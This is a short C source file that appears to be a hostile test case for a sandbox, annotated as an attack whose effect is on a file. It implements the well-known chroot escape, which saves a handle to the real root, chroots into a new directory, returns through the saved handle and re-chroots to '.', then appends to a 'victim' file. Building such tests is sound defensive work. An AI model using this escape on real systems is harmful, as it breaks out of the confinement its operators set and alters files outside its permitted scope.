//@ attack: a root of its own is made and left again upwards
//@ effect: file
#include "hostile.h"

static void attack(void)
{
	int out = open("/", O_RDONLY | O_DIRECTORY);
	mkdir("jail", 0700);
	if (chroot("jail") || fchdir(out) || chroot(".")) return;
	append(in("victim"));
}
